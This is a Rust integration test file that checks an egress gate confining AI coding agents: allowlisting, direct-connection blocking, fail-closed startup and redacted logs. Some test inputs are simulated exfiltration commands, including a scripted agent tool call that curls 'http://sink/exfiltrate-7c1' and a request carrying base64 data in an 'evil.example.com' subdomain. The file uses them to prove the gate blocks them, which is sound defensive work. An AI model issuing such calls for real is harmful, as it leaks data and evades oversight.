@@ -1,0 +1,387 @@
+//! Every bottle behind its gate: what a bottle can and cannot reach, with
+//! fixtures on a network the gate is attached to (named in
+//! `egress.private`, `egress.builtin` off), and the fake or the real claude.
+
+use std::collections::HashMap;
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+
+use bollard::Docker;
+use bollard::query_parameters::{EventsOptions, InspectContainerOptions, ListContainersOptions};
+use fixtures::report::frames;
+use futures_util::StreamExt;
+use serde_json::{Value, json};
+
+use crate::fixture::{
+    CLAUDE_CODE_IMAGE, FIXTURES_IMAGE, Service, TEST_LABEL, TestContainer, TestNetwork, http_get,
+    start_service,
+};
+use crate::launch::{Session, fake_claude_present, leftovers, running_agent};
+use crate::support::Sandbox;
+
+/// "The internet" for one test: an allowed service and a sink that must
+/// never hear from the bottle, on a network of their own.
+struct Outside {
+    network: TestNetwork,
+    allowed: String,
+    sink: String,
+    mock: Option<String>,
+    _services: Vec<TestContainer>,
+}
+
+impl Outside {
+    /// Labelled apart from the bottle's resources, so that what a bottle
+    /// leaves behind can be told from the fixtures.
+    async fn new(docker: &Docker, bottle_label: &str, mock_script: Option<&Value>) -> Self {
+        let label = &format!("{bottle_label}-outside");
+        let network = TestNetwork::create(docker, label).await;
+        let service = |cmd, env, alias| Service {
+            image: FIXTURES_IMAGE,
+            cmd,
+            env,
+            network: &network,
+            alias,
+            runtime: "runc",
+        };
+        let (allowed_container, allowed) =
+            start_service(docker, label, &service(&["sink"], &[], "allowed")).await;
+        let (sink_container, sink) =
+            start_service(docker, label, &service(&["sink"], &[], "sink")).await;
+        let mut services = vec![allowed_container, sink_container];
+        let mut mock = None;
+        if let Some(script) = mock_script {
+            let script = script.to_string();
+            let (mock_container, address) = start_service(
+                docker,
+                label,
+                &service(&["mock-anthropic"], &[("MOCK_SCRIPT", &script)], "mock"),
+            )
+            .await;
+            services.push(mock_container);
+            mock = Some(address);
+        }
+        Self {
+            network,
+            allowed,
+            sink,
+            mock,
+            _services: services,
+        }
+    }
+
+    fn records(address: &str) -> Vec<Value> {
+        serde_json::from_str(&http_get(address, 9999, "/_records")).unwrap()
+    }
+}
+
+/// A sandbox whose bottle lists the fixtures, attached to their network.
+fn sandbox(label: &str, outside: &Outside, image: &str, env: &Value) -> Sandbox {
+    let manifest = json!({
+        "bottles": { "dev": {
+            "env": env,
+            "egress": { "allowlist": ["allowed", "mock"], "private": ["allowed", "mock"], "builtin": false }
+        } },
+        "agents": { "a": { "bottle": "dev" } },
+    });
+    Sandbox::with_manifest(&manifest.to_string())
+        .env("CLAUDE_BOTTLE_IMAGE", image)
+        .env(
+            "CLAUDE_BOTTLE_EXTRA_LABELS",
+            &format!("{TEST_LABEL}={label}"),
+        )
+        .env("CLAUDE_BOTTLE_GATE_NETWORKS", &outside.network.name)
+}
+
+fn label(test: &str) -> String {
+    format!("egress-{test}-{}", std::process::id())
+}
+
+async fn container_address(docker: &Docker, label: &str, role: &str) -> String {
+    let found = docker
+        .list_containers(Some(ListContainersOptions {
+            filters: Some(HashMap::from([(
+                "label".to_owned(),
+                vec![
+                    format!("{TEST_LABEL}={label}"),
+                    format!("io.claude-bottle.role={role}"),
+                ],
+            )])),
+            ..Default::default()
+        }))
+        .await
+        .unwrap();
+    let id = found[0].id.clone().unwrap();
+    let inspect = docker
+        .inspect_container(&id, None::<InspectContainerOptions>)
+        .await
+        .unwrap();
+    let networks = inspect.network_settings.unwrap().networks.unwrap();
+    networks
+        .into_iter()
+        .find(|(name, _)| name.ends_with("-internal"))
+        .and_then(|(_, e)| e.ip_address)
+        .unwrap()
+}
+
+#[tokio::test]
+async fn inside_a_bottle_only_the_gate_leads_out_and_only_to_the_allowlist() {
+    let Some(docker) = fake_claude_present("egress from a bottle").await else {
+        return;
+    };
+    let label = label("inside");
+    let outside = Outside::new(&docker, &label, None).await;
+    // Another instance, running alongside: its agent and gate must be out
+    // of reach too.
+    let other_label = label.clone() + "-other";
+    let other = sandbox(
+        &other_label,
+        &outside,
+        crate::fixture::FAKE_CLAUDE_IMAGE,
+        &json!({ "FAKE_CLAUDE_READ_STDIN": "1" }),
+    );
+    let other_session = Session::spawn(&other, &["start", "a", "--yes"]);
+    running_agent(&docker, &other_label, &other_session).await;
+    let other_agent = container_address(&docker, &other_label, "agent").await;
+    let other_gate = container_address(&docker, &other_label, "gate").await;
+
+    let sink = &outside.sink;
+    let script = format!(
+        "echo allowed=$(curl -s http://allowed/through-the-gate); \
+         echo refused=$(curl -s -w ' %{{http_code}}' http://sink/refused-path); \
+         curl -s --noproxy '*' --max-time 3 http://{sink}/direct >/dev/null; echo direct=$?; \
+         echo proxied-address=$(curl -s -w ' %{{http_code}}' http://{sink}/by-address); \
+         timeout 5 getent hosts sink >/dev/null; echo dns=$?; \
+         curl -s --noproxy '*' --max-time 3 http://{other_gate}:3128/healthz >/dev/null; echo other-gate=$?; \
+         curl -s --noproxy '*' --max-time 3 http://{other_agent}:80/ >/dev/null; echo other-agent=$?; \
+         echo via-gate-to-other=$(curl -s -w ' %{{http_code}}' http://{other_gate}:3128/healthz)"
+    );
+    let bottle = sandbox(
+        &label,
+        &outside,
+        crate::fixture::FAKE_CLAUDE_IMAGE,
+        &json!({ "FAKE_CLAUDE_RUN": script }),
+    );
+    let out = bottle.run(&["start", "a", "--yes"]);
+    assert_eq!(out.code, 0, "{out:?}");
+    let said = |key: &str| {
+        out.stdout
+            .lines()
+            .find_map(|l| l.strip_prefix(&format!("{key}=")))
+            .unwrap_or_else(|| panic!("no {key} in {}", out.stdout))
+            .to_owned()
+    };
+    assert_eq!(said("allowed"), "sink", "the positive control");
+    assert!(
+        said("refused").contains("egress gate refused") && said("refused").ends_with("403"),
+        "{}",
+        said("refused")
+    );
+    assert_ne!(said("direct"), "0", "direct TCP to the sink worked");
+    assert!(
+        said("proxied-address").ends_with("403"),
+        "{}",
+        said("proxied-address")
+    );
+    assert_ne!(said("dns"), "0", "a name resolved inside the bottle");
+    assert_ne!(
+        said("other-gate"),
+        "0",
+        "another instance's gate was reachable"
+    );
+    assert_ne!(
+        said("other-agent"),
+        "0",
+        "another instance's agent was reachable"
+    );
+    assert!(
+        said("via-gate-to-other").ends_with("403"),
+        "{}",
+        said("via-gate-to-other")
+    );
+
+    assert!(
+        Outside::records(&outside.sink).is_empty(),
+        "the sink heard from the bottle"
+    );
+    let allowed = Outside::records(&outside.allowed);
+    assert_eq!(allowed.len(), 1, "{allowed:?}");
+    assert!(
+        allowed[0]["first_bytes"]
+            .as_str()
+            .unwrap()
+            .starts_with("GET /through-the-gate")
+    );
+    assert!(
+        out.stderr.contains("egress: 1 allowed, 3 refused"),
+        "{}",
+        out.stderr
+    );
+    assert_eq!(leftovers(&docker, &label).await, (vec![], vec![]));
+
+    assert_eq!(other_session.finish("").code, 0);
+    assert_eq!(leftovers(&docker, &other_label).await, (vec![], vec![]));
+}
+
+#[tokio::test]
+async fn real_claude_code_reaches_the_mock_through_the_gate_and_its_curl_is_refused() {
+    let Some(docker) = fake_claude_present("real claude behind the gate").await else {
+        return;
+    };
+    let label = label("real");
+    let script = json!([
+        { "tool_use": { "name": "Bash", "input": { "command": "curl -s http://sink/exfiltrate-7c1", "description": "send it out" } } },
+        { "text": "done" }
+    ]);
+    let outside = Outside::new(&docker, &label, Some(&script)).await;
+    let env = json!({
+        "ANTHROPIC_BASE_URL": "http://mock",
+        "ANTHROPIC_API_KEY": "test-key-not-secret",
+        "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1",
+    });
+    let bottle = sandbox(&label, &outside, CLAUDE_CODE_IMAGE, &env);
+    let out = bottle.run(&["start", "a", "--yes", "--", "-p", "go"]);
+    assert_eq!(out.code, 0, "{out:?}");
+    assert_eq!(out.stdout.trim(), "done");
+    let requests: Vec<Value> =
+        serde_json::from_str(&http_get(outside.mock.as_ref().unwrap(), 80, "/_requests")).unwrap();
+    assert_eq!(requests.len(), 2, "{requests:#?}");
+    let last = requests[1]["body"]["messages"]
+        .as_array()
+        .unwrap()
+        .last()
+        .unwrap()
+        .to_string();
+    assert!(
+        last.contains("egress gate refused GET sink"),
+        "the tool_result: {last}"
+    );
+    assert!(
+        Outside::records(&outside.sink).is_empty(),
+        "the sink heard from claude"
+    );
+    assert!(
+        out.stderr.contains("egress: 2 allowed, 1 refused"),
+        "{}",
+        out.stderr
+    );
+    assert_eq!(leftovers(&docker, &label).await, (vec![], vec![]));
+}
+
+#[tokio::test]
+async fn a_gate_that_cannot_start_means_no_agent_container_and_nothing_left() {
+    let Some(docker) = fake_claude_present("fail closed").await else {
+        return;
+    };
+    let label = label("closed");
+    let outside = Outside::new(&docker, &label, None).await;
+    let since = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .unwrap()
+        .as_secs()
+        - 1;
+    // An image that is no gate: it cannot run the gate's command.
+    let bottle = sandbox(
+        &label,
+        &outside,
+        crate::fixture::FAKE_CLAUDE_IMAGE,
+        &json!({}),
+    )
+    .env("CLAUDE_BOTTLE_GATE_IMAGE", crate::fixture::BASE_IMAGE);
+    let out = bottle.run(&["start", "a", "--yes"]);
+    assert_eq!(out.code, 125, "{out:?}");
+    assert!(out.stderr.contains("error: the egress gate"), "{out:?}");
+    assert_eq!(leftovers(&docker, &label).await, (vec![], vec![]));
+    let until = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .unwrap()
+        .as_secs()
+        + 1;
+    let mut events = docker.events(Some(EventsOptions {
+        since: Some(since.to_string()),
+        until: Some(until.to_string()),
+        filters: Some(HashMap::from([
+            ("type".to_owned(), vec!["container".to_owned()]),
+            ("event".to_owned(), vec!["create".to_owned()]),
+            ("label".to_owned(), vec![format!("{TEST_LABEL}={label}")]),
+        ])),
+    }));
+    let mut roles = Vec::new();
+    while let Some(Ok(event)) = events.next().await {
+        let attributes = event.actor.and_then(|a| a.attributes).unwrap_or_default();
+        roles.push(
+            attributes
+                .get("io.claude-bottle.role")
+                .cloned()
+                .unwrap_or_default(),
+        );
+    }
+    assert!(
+        roles.contains(&"gate".to_owned()),
+        "the gate was created: {roles:?}"
+    );
+    assert!(
+        !roles.contains(&"agent".to_owned()),
+        "an agent container was created: {roles:?}"
+    );
+}
+
+#[tokio::test]
+async fn logs_shows_a_running_instances_decisions_and_kill_9_takes_the_gate_down() {
+    let Some(docker) = fake_claude_present("logs and kill -9").await else {
+        return;
+    };
+    let label = label("logs");
+    let outside = Outside::new(&docker, &label, None).await;
+    let env = json!({
+        "FAKE_CLAUDE_RUN": "curl -s http://allowed/ >/dev/null; curl -s http://c2VjcmV0.evil.example.com/ >/dev/null",
+        "FAKE_CLAUDE_READ_STDIN": "1",
+    });
+    let bottle = sandbox(&label, &outside, crate::fixture::FAKE_CLAUDE_IMAGE, &env);
+    let mut session = Session::spawn(&bottle, &["start", "a", "--yes"]);
+    running_agent(&docker, &label, &session).await;
+    let deadline = Instant::now() + Duration::from_secs(30);
+    while frames(&session.stdout.lock().unwrap(), "ran").is_empty() {
+        assert!(Instant::now() < deadline, "the requests never ran");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    let instance = crate::cleanup::wait_for_instance(&session).await;
+    let logs = bottle.run(&["logs", &instance]);
+    assert_eq!(logs.code, 0, "{logs:?}");
+    let lines: Vec<Value> = logs
+        .stdout
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(lines.len(), 2, "{lines:?}");
+    assert_eq!(
+        (lines[0]["host"].as_str(), lines[0]["verdict"].as_str()),
+        (Some("allowed"), Some("allow"))
+    );
+    assert_eq!(lines[1]["verdict"], "refuse");
+    assert!(
+        lines[1]["host"]
+            .as_str()
+            .unwrap()
+            .starts_with("example.com#"),
+        "{}",
+        lines[1]
+    );
+    assert!(!logs.stdout.contains("c2VjcmV0"));
+
+    session.child.kill().unwrap();
+    session.child.wait().unwrap();
+    let deadline = Instant::now() + Duration::from_secs(10);
+    while !leftovers(&docker, &label).await.0.is_empty() {
+        assert!(
+            Instant::now() < deadline,
+            "the gate or the agent outlived its CLI"
+        );
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    assert_eq!(bottle.run(&["cleanup", "--yes"]).code, 0);
+    assert_eq!(leftovers(&docker, &label).await, (vec![], vec![]));
+    assert_eq!(
+        bottle.run(&["logs", &instance]).code,
+        125,
+        "no instance, no log"
+    );
+}
